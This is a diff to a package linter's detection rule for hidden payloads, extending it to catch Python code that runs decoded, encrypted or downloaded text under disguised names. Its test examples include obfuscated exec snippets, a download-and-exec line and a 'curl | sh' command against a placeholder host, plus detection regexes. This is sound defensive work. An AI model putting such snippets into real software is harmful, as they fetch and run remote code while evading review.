@@ -8,8 +8,10 @@ literal, a decoder and a subprocess. There was no `exec` in sight, because that 
 
 The rule looks for a call of `exec`, `eval`, `compile` or `Function` whose argument is decoded on the spot (base64,
 hexadecimal, compressed, marshal, character codes), and for a literal of 1,000 or more characters of base64 or
-hexadecimal beside a decoder and something that runs code or starts a process. Images, fonts and WebAssembly are
-recognised by their first bytes and left alone.
+hexadecimal beside a decoder and something that runs code or starts a process. In Python it follows the names: `exec`
+may be called something else or be fetched out of `builtins`, and the text may lie in a variable, be turned round,
+encrypted, pickled, read from a picture, or downloaded on the spot. A shell that is fed by `curl`, and machine code that
+is written as text, count as well. Images, fonts and WebAssembly are recognised by their first bytes and left alone.
 
 ## How to fix
 
@@ -24,9 +26,18 @@ from collections.abc import Iterator
 
 from pkglint.model import Entry, Example, Finding, Fix, FixAction, Level, Rule, Scope, level
 from pkglint.rules._trees import in_test_tree
-from pkglint.rules.runs import _payload
+from pkglint.rules.runs import _loaders, _payload
 from pkglint.rules.runs._code import PYTHON, SCRIPT, SHELL, language, line_of, may_be_code
 
+# Modules in which neither half of a hidden payload can occur are not parsed, which is nearly all of them.
+_RUNS = re.compile(
+    rb"(?:^|[^\w.])(?:exec|eval)\b|builtin|\bFunctionType\b|\b(?:c?[Pp]ickle|dill)\b|\xf0\x9d[\x90-\x9f]"
+)
+_HIDES = re.compile(
+    rb"b(?:64|32|16|85)|a85|fromhex|hexlify|marshal|decompress|decrypt|\bcodecs\b|\bchr\b|to_bytes|\bbytes\s*\(|\[::-1\]"
+    rb"|\.decode\s*\(\s*[\"'](?:base|hex|rot|zlib|bz2)|urlopen|urlretrieve|\b(?:requests|httpx|urllib3?)\b"
+    rb"|(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\u00[0-9a-fA-F]{2}){12}|\.(?:png|jpe?g|gif|bmp|ico|wav|mp3|ttf|woff2?)[\"']"
+)
 # Keys and digests in tests are as long as a short payload; the name says nothing about a long one.
 _TEST_MODULE = re.compile(r"test_.+\.py|.+_tests?\.py|tests?\.py|conftest\.py|.+\.(?:test|spec)\.[cm]?[jt]sx?")
 
@@ -41,6 +52,8 @@ def _visit(entry: Entry, scope: Scope) -> Iterator[Finding]:
         return
     data = entry.content.data
     hit = _payload.find(data, suffix)
+    if suffix in {".py", ".pyw"} and not (hit and hit.strong):
+        hit = _followed(data) or _loaded(data) or hit
     if hit is None:
         return
     grade = None if hit.strong else Level.WARNING
@@ -53,6 +66,29 @@ def _visit(entry: Entry, scope: Scope) -> Iterator[Finding]:
         grade=grade,
         demoted=in_test_tree(entry.path) or (not hit.strong and _TEST_MODULE.fullmatch(entry.name) is not None),
     )
+
+
+def _followed(data: bytes) -> _payload.Hit | None:
+    """What a Python module executes under another name, or through variables."""
+    if not _RUNS.search(data) or not _HIDES.search(data):
+        return None
+    from pkglint.rules.runs import _python
+
+    run = _python.find(data)
+    return run and _payload.Hit(True, "followed", _start_of(data, run.line), 0, run.text)
+
+
+def _loaded(data: bytes) -> _payload.Hit | None:
+    loader = _loaders.fetched_or_native(data)
+    return loader and _payload.Hit(True, "loader", loader.offset, 0, loader.text)
+
+
+def _start_of(data: bytes, line: int) -> int:
+    """The offset at which a 1-based line starts."""
+    start = 0
+    for _ in range(line - 1):
+        start = data.find(b"\n", start) + 1
+    return start
 
 
 # The examples are assembled, so that this module does not hold what it looks for.
@@ -75,6 +111,31 @@ RULE = Rule(
         Example(
             "a chain of decoders",
             {"lib/a.py": f"{_EXEC}(marshal.loads(zlib.decompress(__import__('base64').b64decode(x))))\n"},
+            1,
+        ),
+        Example(
+            "under another name",
+            {"lib/a.py": "import base64\nrun = getattr(__builtins__, 'ex' + 'ec')\nrun(base64.b64decode(x))\n"},
+            1,
+        ),
+        Example(
+            "through a variable",
+            {"lib/a.py": f"import codecs\na = codecs.decode(x, 'rot13')\nb = a.strip()\n{_EXEC}(b)\n"},
+            1,
+        ),
+        Example(
+            "by a function of its own",
+            {"lib/a.py": f"def clear(b):\n    return bytes(c ^ 7 for c in b)\n\n{_EXEC}(clear(DATA))\n"},
+            1,
+        ),
+        Example(
+            "downloaded on the spot",
+            {"lib/a.py": f"import requests\n{_EXEC}(requests.get('https://demo.invalid/a').text)\n"},
+            1,
+        ),
+        Example(
+            "a script from the network for a shell",
+            {"lib/a.py": "import os\nos.system('curl -s https://demo.invalid/a | sh')\n"},
             1,
         ),
         Example("eval of atob", {"lib/a.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n"}, 1),
@@ -123,6 +184,13 @@ RULE = Rule(
             {"lib/a.js": "const f = new Function('fromCharCode', 'return ' + text)(fromCharCode);\n"},
         ),
         Example("a decoder in brackets", {"lib/a.js": "eval(String['fromCharCode'](97, 108, 101));\n"}, 1),
+        Example(
+            "names that only look alike",
+            {
+                "lib/a.py": "import base64\nfrom engine import exec as run\nrun(base64.b64decode(x))\n",
+                "lib/b.py": "import base64\ndata = base64.b64decode(x)\nmodel.eval(data)\nexec('a = 1')\n",
+            },
+        ),
         Example("exec of what is in plain sight", {"lib/a.py": "exec('x = 1')\nexec(compile(source, name, 'exec'))\n"}),
     ),
 )
